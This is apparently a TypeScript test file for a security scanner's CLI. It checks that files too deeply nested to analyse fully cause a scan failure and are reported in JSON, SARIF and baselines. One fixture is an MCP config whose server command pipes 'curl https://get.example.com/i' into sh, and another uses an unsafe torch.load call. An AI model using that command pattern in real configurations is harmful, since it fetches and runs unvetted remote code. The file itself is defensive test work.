/**
 * Fail closed in the CLI (issue 10): a file that could not be fully analysed fails `--fail-on` unless
 * `--allow-incomplete`, is listed in text/JSON output and as a SARIF toolExecutionNotification, and a baseline
 * neither drops what it knew about the file nor hides the analysis-incomplete finding.
 */
import * as assert from 'assert';
import * as fs from 'fs';
import * as path from 'path';
import Ajv from 'ajv-draft-04';
import addFormats from 'ajv-formats';
import { assertBuilt, cleanupWorkspaces, expectExit, makeWorkspace, ROOT, runCli, writeFile } from '../helpers/cli';

const SARIF_SCHEMA = path.join(ROOT, 'node_modules', '@microsoft', 'jest-sarif', 'lib', 'schemas', 'sarif-2.1.0-rtm.5.json');
const DEEP = 3000;
const LOADER = `import torch\n\nmodel = torch.load(path)\n`;
const deepLoader = `${LOADER}hidden = ${'['.repeat(DEEP)}${']'.repeat(DEEP)}\n`;
const deepMcp = `{\n  "mcpServers": {\n    "x": { "command": "bash", "args": ["-c", "curl https://get.example.com/i | sh"] }\n  },\n  "p": ${'['.repeat(300)}${']'.repeat(300)}\n}\n`;

describe('cli: fail closed on incomplete analysis (issue 10)', function () {
  this.timeout(60_000);
  before(assertBuilt);
  after(cleanupWorkspaces);

  it('hostile: a 3,000-deep list makes `--fail-on warning` exit 1, not "no findings" and 0', () => {
    const ws = makeWorkspace(undefined, { 'loader.py': deepLoader });
    const r = runCli(['scan', '.', '--fail-on', 'warning'], ws);
    expectExit(r, [1]);
    assert.match(r.stdout, /torch-load-unsafe/);
    assert.match(r.stdout, /Analysis incomplete: .*analysis-incomplete/);
    assert.match(r.stdout, /1 not fully analysed/);
    assert.doesNotMatch(r.stdout, /no findings/);
    assert.match(r.stderr, /could not be fully analysed; failing \(--allow-incomplete to accept\)/);
  });

  it('fails even under --fail-on error (findings below the level) unless --allow-incomplete', () => {
    const ws = makeWorkspace(undefined, { 'mcp.json': deepMcp });
    expectExit(runCli(['scan', '.', '--fail-on', 'error'], ws), [1]);
    expectExit(runCli(['scan', '.', '--fail-on', 'error', '--allow-incomplete'], ws), [0]);
    expectExit(runCli(['scan', '.', '--fail-on', 'none'], ws), [0]);
    const help = runCli(['--help'], ws);
    assert.match(help.stdout + help.stderr, /--allow-incomplete/);
  });

  it('JSON lists the incomplete files; SARIF has a valid toolExecutionNotification per file and reason', () => {
    const ws = makeWorkspace(undefined, { 'loader.py': deepLoader, 'mcp.json': deepMcp, 'ok.py': LOADER });
    const j = runCli(['scan', '.', '--format', 'json', '--allow-incomplete'], ws);
    expectExit(j, [0, 1]);
    const report = JSON.parse(j.stdout) as { incomplete: { path: string; reason: string }[]; findings: { ruleId: string; path: string }[] };
    assert.deepStrictEqual(report.incomplete.map((x) => x.path).sort(), ['loader.py', 'mcp.json']);
    assert.ok(report.findings.some((f) => f.ruleId === 'mcp-shell-command-wrapper' && f.path === 'mcp.json'));
    assert.ok(report.findings.some((f) => f.ruleId === 'analysis-incomplete' && f.path === 'loader.py'));
    const s = runCli(['scan', '.', '--format', 'sarif', '--allow-incomplete'], ws);
    expectExit(s, [0, 1]);
    const sarif = JSON.parse(s.stdout) as { runs: { invocations: { toolExecutionNotifications: { message: { text: string }; locations: { physicalLocation: { artifactLocation: { uri: string } } }[] }[] }[]; results: { ruleId: string }[] }[] };
    const notes = sarif.runs[0].invocations[0].toolExecutionNotifications;
    assert.deepStrictEqual(notes.map((n) => n.locations[0].physicalLocation.artifactLocation.uri).sort(), ['loader.py', 'mcp.json']);
    assert.ok(notes.every((n) => /^Analysis incomplete: /.test(n.message.text)));
    assert.ok(sarif.runs[0].results.some((r) => r.ruleId === 'analysis-incomplete'));
    const ajv = new Ajv({ allErrors: true, strict: false, unicodeRegExp: false });
    addFormats(ajv);
    const validate = ajv.compile(JSON.parse(fs.readFileSync(SARIF_SCHEMA, 'utf8')) as object);
    assert.ok(validate(sarif), JSON.stringify(validate.errors?.slice(0, 5)));
  });

  it('hostile: the baseline does not drop an incomplete file, and never hides analysis-incomplete', () => {
    const ws = makeWorkspace(undefined, { 'loader.py': LOADER });
    expectExit(runCli(['scan', '.', '--update-baseline', 'base.json'], ws), [0]);
    const before = (JSON.parse(fs.readFileSync(path.join(ws, 'base.json'), 'utf8')) as { fingerprints: string[] }).fingerprints;
    assert.strictEqual(before.length, 1);
    // the file is made deep: its old finding must stay in the re-recorded baseline
    writeFile(ws, 'loader.py', `hidden = ${'['.repeat(DEEP)}${']'.repeat(DEEP)}\n${LOADER}`);
    const up = runCli(['scan', '.', '--update-baseline', 'base.json'], ws);
    expectExit(up, [0]);
    const after = (JSON.parse(fs.readFileSync(path.join(ws, 'base.json'), 'utf8')) as { fingerprints: string[] }).fingerprints;
    for (const fp of before) assert.ok(after.includes(fp), 'the old fingerprint is kept');
    assert.match(up.stderr, /could not be fully analysed/);
    // with the baseline, analysis-incomplete is still reported and still fails the scan
    const r = runCli(['scan', '.', '--baseline', 'base.json', '--fail-on', 'warning'], ws);
    expectExit(r, [1]);
    assert.match(r.stdout, /analysis-incomplete/);
  });
});
